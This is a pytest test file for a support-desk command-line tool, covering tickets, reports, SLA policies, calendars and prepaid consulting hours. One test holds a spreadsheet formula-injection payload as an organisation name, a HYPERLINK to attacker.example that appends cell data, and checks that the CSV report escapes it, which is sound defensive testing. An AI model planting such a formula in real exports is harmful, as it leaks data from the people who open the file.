"""``levante support …``: the desk from the command line, as the operator's agent."""

from __future__ import annotations

import csv
import io
import json

import pytest

from levante import billing, support
from levante.audit import Actor
from levante.mail import queue_mail
from levante.storage import Database, utcnow
from tests.cli.runner import fails, ok
from tests.helpers import make_tenant


@pytest.fixture(autouse=True)
def _use_test_database(monkeypatch: pytest.MonkeyPatch, database_url: str) -> None:
    monkeypatch.setenv("LEVANTE_DATABASE_URL", database_url)
    monkeypatch.setenv("LEVANTE_CONFIG_FILE", "/nonexistent.toml")


def _ticket(
    database: Database, name: str = "Acme", subject: str = "GPU node down"
) -> tuple[str, int]:
    ok("db", "upgrade")
    acme = make_tenant(database, name)
    with database.session() as session:
        billing.ensure_catalog(session)
        billing.subscribe(session, acme.organization_id, "support-premium", now=utcnow(),
                          default_currency="EUR", actor=Actor.command_line())  # fmt: skip
        ticket = support.open_ticket(
            session, Actor.api_key(acme.organization_id, acme.key_id, admin=True),
            subject=subject,
            description="Node 3 fails health checks.", severity=1, now=utcnow(),
        )  # fmt: skip
        return acme.organization_id, ticket.number


def test_an_agent_works_a_ticket_from_the_command_line(database: Database) -> None:
    org, number = _ticket(database)
    [row] = json.loads(ok("support", "queue", "--json"))
    assert row["number"] == str(number)
    assert row["organization"] == "Acme"
    ok("support", "reply", str(number), "--body", "Restarting node 3 now.")
    ok("support", "note", str(number), "--body", "Firmware bug, see KB-12.")
    ok("support", "severity", str(number), "2", "--reason", "one node of four")
    ok("support", "time", str(number), "90", "--note", "remote session")
    assert "pending" in ok("support", "status", str(number), "pending")
    shown = ok("support", "show", str(number))
    assert "Firmware bug" in shown
    assert "(internal)" in shown
    assert "first_response" in shown
    [listed] = json.loads(ok("support", "tickets", "--org", org, "--json"))
    assert listed["status"] == "pending"
    period = f"{utcnow():%Y-%m}"
    rows = list(csv.DictReader(io.StringIO(ok("support", "report", "--period", period, "--csv"))))
    assert rows[0]["organization"] == "Acme"
    assert rows[0]["first_response_met"] == "1"
    assert rows[0]["hours_logged"] == "1.50"
    assert "Acme" in ok("support", "report", "--period", period)
    fails("support", "status", str(number), "waiting", message="status is one of")
    fails("support", "show", "99999", message="does not exist")
    fails("support", "assign", str(number), "nobody@example.com", message="no support agent")


def test_text_in_brackets_is_printed_as_it_is(database: Database) -> None:
    """Rich read "[batch]" as markup and dropped it, --json included; "[#1001]" too."""
    _, number = _ticket(database, "Acme [EU]", subject="About [batch] pricing [/] [bold]x")
    [row] = json.loads(ok("support", "queue", "--json"))
    assert row["subject"] == "About [batch] pricing [/] [bold]x"
    assert row["organization"] == "Acme [EU]"
    assert "About [batch] pricing [/] [bold]x" in ok("support", "queue")
    assert "About [batch] pricing" in ok("support", "show", str(number))
    with database.session() as session:
        queue_mail(session, "it@acme.example", f"[#{number}] About [batch] pricing", "-",
                   now=utcnow())  # fmt: skip
    [mail] = json.loads(ok("mail", "outbox", "--json"))
    assert mail["subject"] == f"[#{number}] About [batch] pricing"
    assert "Acme [EU]" in ok("org", "list")


def test_the_report_csv_quotes_a_name_a_spreadsheet_would_run(database: Database) -> None:
    # A personal organisation is named after its sign-up address, which may start with "=".
    hostile = '=HYPERLINK("https://attacker.example/?q="&A1,"open")'
    _ticket(database, hostile)
    period = f"{utcnow():%Y-%m}"
    [row] = csv.DictReader(io.StringIO(ok("support", "report", "--period", period, "--csv")))
    assert row["organization"] == "'" + hostile
    assert row["hours_logged"] == "0.00"


def test_policies_and_calendars_from_the_command_line(database: Database) -> None:
    ok("db", "upgrade")
    listed = json.loads(ok("support", "policy", "list", "--json"))
    premium_1 = next(r for r in listed if r["plan"] == "support-premium" and r["severity"] == "1")
    assert premium_1["first_response"] == "1 hour"
    assert premium_1["clock"] == "24x7"
    ok("support", "policy", "set", "support-premium", "--severity", "1", "--first-response", "45")
    listed = json.loads(ok("support", "policy", "list", "--json"))
    premium_1 = next(r for r in listed if r["plan"] == "support-premium" and r["severity"] == "1")
    assert premium_1["first_response"] == "45 min"
    fails("support", "policy", "set", "support-premium", "--severity", "1", "--clock", "weekly",
          message="clock")  # fmt: skip
    out = ok("support", "calendar", "set", "uk", "--timezone", "Europe/London",
             "--hours", "mon-fri 08:30-17:30", "--holiday", "2026-12-25")  # fmt: skip
    assert "Mon-Fri 08:30-17:30 (Europe/London)" in out
    names = [r["name"] for r in json.loads(ok("support", "calendar", "list", "--json"))]
    assert names == ["business-hours", "uk"]
    fails("support", "calendar", "set", "x", "--timezone", "Nowhere/Else", "--hours",
          "mon 09:00-17:00", message="not a time zone")  # fmt: skip


def test_the_operator_sells_hours_and_follows_them(database: Database) -> None:
    org, number = _ticket(database)
    [small, large] = json.loads(ok("support", "packs", "--json"))
    assert (small["plan"], small["hours"], large["hours"]) == ("consulting-10h", "10", "40")
    assert "2000.00 EUR" in small["prices"]
    bought = ok("support", "buy-hours", "consulting-10h", "--org", org)
    assert "Consulting, 10 hours for" in bought
    assert "invoice" in bought
    assert "finalized" in bought
    ok("support", "time", str(number), "45")
    [pack] = json.loads(ok("support", "hours", "--org", org, "--json"))
    assert (pack["hours"], pack["used"], pack["left"], pack["valid"]) == (
        "10 h", "45 min", "9 h 15 min", "yes",
    )  # fmt: skip
    assert "9 h 15 min left" in ok("support", "hours", "--org", org)
    fails("support", "buy-hours", "support-premium", "--org", org, message="not an hour pack")
    fails("support", "hours", "--org", "nobody", message="nobody")
